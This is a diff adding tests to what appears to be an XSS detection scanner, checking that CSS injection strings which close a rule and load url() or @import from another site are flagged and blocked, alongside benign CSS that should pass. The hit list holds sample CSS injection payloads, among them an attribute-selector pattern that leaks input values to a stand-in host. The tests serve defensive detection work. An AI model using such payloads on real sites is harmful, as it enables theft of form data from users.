@@ -393,3 +393,20 @@ describe('xss: a dialog call with a number, and an empty string written to inner
   });
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
 });
+
+describe('xss: CSS injected into a style sheet that loads from another site', () => {
+  // a '}' closing a rule the value never opened, a '{' opening a new one, then url() (where CSS writes it) to //host or http(s)://host
+  const hits = ['}*{background:url(//q.test/a)}', "';}qq[value^=a]{background-image:url('https://q.test/a')}", '}q{@import url(//q.test/a.css)}',
+    '} q { a: b, url( "http://q.test/x") }'];
+  it.each(hits)('%s is a css injection', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).toContain('xss.css-expression');
+    expect(r.blocked).toBe(true);
+  });
+  const clean = ['.hero{background:url(/img/banner.jpg) no-repeat center}', 'a{b:url(//q.test/x)}', '}*{background:url(/img/x.png)}', "} else { x = 'url(//q.test/a)' }",
+    '@font-face{font-family:Roboto;src:url(https://fonts.q.test/r.woff2)}', '} q {background:url (//q.test)}', '}{q:url(http)}'];
+  it.each(clean)('%s is no css injection', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.css-expression');
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
+});
